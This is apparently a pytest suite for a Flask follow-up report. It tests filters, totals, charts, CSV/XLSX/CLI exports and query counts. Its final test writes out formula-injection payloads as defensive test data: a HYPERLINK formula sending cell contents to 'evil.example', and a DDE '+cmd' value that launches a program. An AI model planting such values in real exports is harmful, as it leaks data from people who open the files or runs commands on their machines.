"""The follow-up report: filters, totals, charts, exports, the command line, query counts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from flask import Flask
from followup_data import generate, insert, organisation_pool

from app.auth.models import Role
from app.followup import labels
from app.followup.assess import settings_from
from app.followup.exports import COLUMNS, record
from app.followup.models import EventRole, Theme
from app.followup.portfolio import build_report
from app.followup.report import ReportFilters
from indicators.followup import ActionState, FollowUpStatus
from seed.factories import (
    EventFactory,
    EventOrganisationFactory,
    FollowUpActionFactory,
    OrganisationFactory,
    RecommendationFactory,
)

AS_OF = dt.date(2025, 1, 1)


def _event(title: str, start: dt.date, country: str, organiser: Any, funder: Any | None,
           followed: int, total: int, theme: Theme | None, cost: str | None) -> Any:
    event = EventFactory(title=title, start_date=start, end_date=start, country=country,
                         cost=Decimal(cost) if cost else None, currency="EUR" if cost else None)
    EventOrganisationFactory(event=event, organisation=organiser, role=EventRole.ORGANISER)
    if funder is not None:
        EventOrganisationFactory(event=event, organisation=funder, role=EventRole.FUNDER)
    for i in range(total):
        rec = RecommendationFactory(event=event, number=str(i + 1), position=i + 1)
        if theme is not None:
            rec.themes = [_theme(theme)]
        if i < followed:
            FollowUpActionFactory(recommendation=rec, action_date=start + dt.timedelta(days=9),
                                  state=ActionState.DONE, verified_at=dt.datetime.combine(
                                      start + dt.timedelta(days=10), dt.time(), dt.UTC))
    return event


def _theme(theme: Theme) -> Any:
    from app.followup.models import RecommendationTheme

    return RecommendationTheme(theme=theme)


@pytest.fixture
def portfolio(session: Any) -> dict[str, Any]:
    unrcca = OrganisationFactory(name="UNRCCA", acronym="UNRCCA")
    osce = OrganisationFactory(name="OSCE", acronym="OSCE")
    eu = OrganisationFactory(name="European Union", acronym="EU")
    events = {
        "almaty": _event("Almaty workshop", dt.date(2016, 3, 29), "KZ", unrcca, eu, 0, 6,
                         Theme.RESEARCH, "45000"),
        "bishkek": _event("Bishkek conference", dt.date(2017, 11, 10), "KG", osce, None, 3, 4,
                          Theme.YOUTH, "80000"),
        "astana": _event("Astana seminar", dt.date(2017, 9, 2), "KZ", osce, eu, 0, 0,
                         None, None),
        "dushanbe": _event("Dushanbe round table", dt.date(2024, 11, 1), "TJ", unrcca, None,
                           0, 2, Theme.RESEARCH, "1000"),
        "tashkent": _event("Tashkent workshop", dt.date(2018, 5, 5), "UZ", unrcca, eu, 0, 3,
                           None, None),
    }
    session.commit()
    return {"events": events, "unrcca": unrcca, "osce": osce, "eu": eu}


def _ids(report: Any) -> set[str]:
    return {row.title.split()[0].lower() for row in report.rows}


@pytest.mark.parametrize(("args", "expected"), [
    ({}, {"almaty", "bishkek", "astana", "dushanbe", "tashkent"}),
    ({"organiser": "osce"}, {"bishkek", "astana"}),
    ({"funder": "eu"}, {"almaty", "astana", "tashkent"}),
    ({"country": "kz"}, {"almaty", "astana"}),
    ({"theme": "research"}, {"almaty", "dushanbe"}),
    ({"year": "2017"}, {"bishkek", "astana"}),
    ({"status": "talk_shop"}, {"almaty", "tashkent"}),
    ({"status": "pending"}, {"dushanbe"}),
    ({"q": "BISHKEK"}, {"bishkek"}),
    ({"organiser": "unrcca", "funder": "eu", "status": "talk_shop"}, {"almaty", "tashkent"}),
])
def test_filters(session: Any, app: Flask, portfolio: dict[str, Any], args: dict[str, str],
                 expected: set[str]) -> None:
    args = {k: str(portfolio[v].id) if v in portfolio else v for k, v in args.items()}
    with app.app_context():
        report = build_report(session, AS_OF, settings_from(app.config),
                              ReportFilters.from_args(args))
    assert _ids(report) == expected


def test_filters_that_do_not_parse_are_ignored() -> None:
    filters = ReportFilters.from_args({"organiser": "x", "country": "Kazakhstan",
                                       "year": "12", "status": "nonsense", "theme": "?"})
    assert filters == ReportFilters()
    assert not filters.active


def test_totals_and_order(session: Any, app: Flask, portfolio: dict[str, Any]) -> None:
    report = build_report(session, AS_OF, settings_from(app.config))
    totals = report.totals
    assert (totals.events, totals.talk_shops, totals.followed_up, totals.pending,
            totals.none_recorded) == (5, 2, 1, 1, 1)
    assert totals.talk_shop_share == Decimal(2) / Decimal(3)
    assert report.talk_shop_cost == {"EUR": Decimal("45000.00")}
    assert totals.talk_shops_without_cost == 1
    assert [r.status for r in report.rows][:3] == [FollowUpStatus.TALK_SHOP] * 2 + [
        FollowUpStatus.FOLLOWED_UP]
    recent = build_report(session, AS_OF, settings_from(app.config),
                          ReportFilters(sort="recent"))
    assert recent.rows[0].title == "Dushanbe round table"


def test_report_page_shows_totals_charts_and_drills_down(
    client: Any, login_as: Any, portfolio: dict[str, Any]
) -> None:
    login_as(Role.MANAGER)
    response = client.get(f"/followup/report?as_of={AS_OF}")
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "unsafe-inline" not in response.headers["Content-Security-Policy"]
    assert "style=" not in body  # the CSP forbids inline styles: SVG attributes only
    assert body.count('<svg viewBox="0 -4 400') == 4
    for title in ("By organiser", "By funder", "By country", "By year"):
        assert title in body
    assert "66.7% of the events judged" in body
    assert "€45,000.00" in body
    # each bar narrows the report to its group
    assert re.search(rf'href="/followup/report\?[^"]*organiser={portfolio["unrcca"].id}"', body)
    assert re.search(r'href="/followup/report\?[^"]*year=2016"', body)
    # each event opens its recommendations
    almaty = portfolio["events"]["almaty"]
    assert f'/followup/events/{almaty.id}?as_of={AS_OF}' in body


def test_csv_export_is_the_report_table(client: Any, login_as: Any, session: Any, app: Flask,
                                        portfolio: dict[str, Any]) -> None:
    login_as(Role.MANAGER)
    response = client.get(f"/followup/report.csv?as_of={AS_OF}&country=KZ")
    assert response.mimetype == "text/csv"
    assert f"followup-report-{AS_OF}.csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    report = build_report(session, AS_OF, settings_from(app.config),
                          ReportFilters(country="KZ"))
    with app.test_request_context():  # the reason is a sentence in the reader's language
        expected = [{k: "" if v is None else (v.isoformat() if isinstance(v, dt.date)
                                              else str(v))
                     for k, v in record(row, report.settings).items()} for row in report.rows]
    assert rows == expected
    almaty = next(r for r in rows if r["title"] == "Almaty workshop")
    assert almaty["organisers"] == "UNRCCA" and almaty["funders"] == "EU"
    assert (almaty["status"], almaty["recommendations"], almaty["cost"]) == (
        "talk_shop", "6", "45000.00")


def test_xlsx_export_is_the_report_table(client: Any, login_as: Any, session: Any, app: Flask,
                                         portfolio: dict[str, Any]) -> None:
    login_as(Role.MANAGER)
    response = client.get(f"/followup/report.xlsx?as_of={AS_OF}")
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.worksheets[0]
    header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header == [str(heading) for _key, heading, _fmt in COLUMNS]
    report = build_report(session, AS_OF, settings_from(app.config))
    assert len(rows) == len(report.rows) == 5
    for cells, row in zip(rows, report.rows, strict=True):
        values = dict(zip([key for key, _h, _f in COLUMNS], cells, strict=True))
        with app.test_request_context():
            expected = record(row, report.settings)
        assert values["status"] == str(labels.FOLLOW_UP_STATUS[row.status])
        assert values["start_date"].date() == expected["start_date"]
        for key in ("event_id", "title", "recommendations", "followed_up", "verified",
                    "days_since_event", "days_to_first_follow_up"):
            assert values[key] == expected[key], key
        for key in ("follow_up_rate", "cost"):
            assert (None if values[key] is None else Decimal(str(values[key]))) == (
                expected[key]), key
    about = {r[0]: r[1] for r in workbook.worksheets[1].iter_rows(values_only=True)}
    assert about["Grace period (days)"] == 180


def test_command_line_report_in_csv_and_json(app: Flask, portfolio: dict[str, Any]) -> None:
    runner = app.test_cli_runner()
    result = runner.invoke(args=["followup", "report", "--as-of", AS_OF.isoformat()])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert {r["title"]: r["status"] for r in rows} == {
        "Almaty workshop": "talk_shop", "Bishkek conference": "followed_up",
        "Astana seminar": "none_recorded", "Dushanbe round table": "pending",
        "Tashkent workshop": "talk_shop"}
    result = runner.invoke(args=["followup", "report", "--format", "json", "--as-of",
                                 "2030-01-01"])
    document = json.loads(result.output)
    assert document["as_of"] == "2030-01-01"
    assert document["totals"]["talk_shops"] == 3  # Dushanbe is judged by then
    assert document["totals"]["talk_shop_cost"] == {"EUR": "46000.00"}
    assert len(document["events"]) == 5
    bad = runner.invoke(args=["followup", "report", "--as-of", "yesterday"])
    assert bad.exit_code != 0 and "does not match the format '%Y-%m-%d'" in bad.output


def test_report_table_is_paginated(client: Any, login_as: Any, session: Any) -> None:
    insert(session, generate(120, seed=7, recommendations=1), organisation_pool(session))
    session.commit()
    login_as(Role.MANAGER)
    body = client.get("/followup/report?page=3").get_data(as_text=True)
    table = body.split('<table class="report cards">')[1].split("</table>")[0]
    assert table.count("<tr>") == 1 + 20
    assert "Page 3 of 3" in body


PAGES = ["/followup/report", "/followup/report?status=talk_shop&page=2",
         "/followup/report?organiser={org}&theme=research", "/followup/",
         "/followup/?page=2&country=KZ", "/followup/report.csv", "/followup/recurring"]


def test_pages_keep_their_query_count_from_10_to_1000_events(
    client: Any, login_as: Any, session: Any, count_queries: Any
) -> None:
    login_as(Role.MANAGER)
    organisations = organisation_pool(session)
    pages = [p.format(org=organisations[0]) for p in PAGES]

    def counts() -> dict[str, int]:
        result = {}
        for url in pages:
            with count_queries() as counter:
                response = client.get(url)
                assert response.status_code == 200, url
                response.get_data()  # a streamed export's queries count too
                response.close()
            result[url] = counter.count
        return result

    insert(session, generate(10, seed=1, recommendations=10), organisations)
    session.commit()
    small = counts()
    insert(session, generate(990, seed=2, recommendations=10), organisations)
    session.commit()
    large = counts()
    assert large == small
    assert max(small.values()) <= 10, small


def test_event_page_query_count_does_not_grow_with_recommendations(
    client: Any, login_as: Any, session: Any, count_queries: Any
) -> None:
    login_as(Role.MANAGER)
    events = generate(2, seed=3, recommendations=3) + generate(1, seed=4, recommendations=40)
    insert(session, events, organisation_pool(session))
    session.commit()
    found = []
    for event in (events[0], events[2]):
        with count_queries() as counter:
            body = client.get(f"/followup/events/{event.id}").get_data(as_text=True)
        assert len(re.findall(r'class="card recommendation"', body)) == len(
            event.recommendations)
        found.append(counter.count)
    assert found[0] == found[1]


def test_text_that_would_run_as_a_formula_stays_text_in_every_export(
        client: Any, login_as: Any, session: Any) -> None:
    import openpyxl

    formula = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    event = EventFactory(title=formula, city="+cmd|' /C calc'!A0", start_date=AS_OF.replace(
        year=AS_OF.year - 2), end_date=AS_OF.replace(year=AS_OF.year - 2))
    RecommendationFactory(event=event)
    session.commit()
    login_as(Role.MANAGER)
    body = client.get(f"/followup/report.csv?as_of={AS_OF}").get_data(as_text=True)
    rows = [r for r in csv.DictReader(io.StringIO(body)) if r["event_id"] == str(event.id)]
    assert rows and rows[0]["title"] == "'" + formula
    assert rows[0]["city"].startswith("'+cmd")
    book = openpyxl.load_workbook(io.BytesIO(client.get(
        f"/followup/report.xlsx?as_of={AS_OF}&q=evil").data))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == "'" + formula for c in cells)
    about = [c for row in book.worksheets[1].iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in about)
    book = openpyxl.load_workbook(io.BytesIO(client.get(
        f"/followup/report.xlsx?as_of={AS_OF}&q=%3D1%2B2").data))
    assert any(c.value == "'=1+2" for row in book.worksheets[1].iter_rows() for c in row)
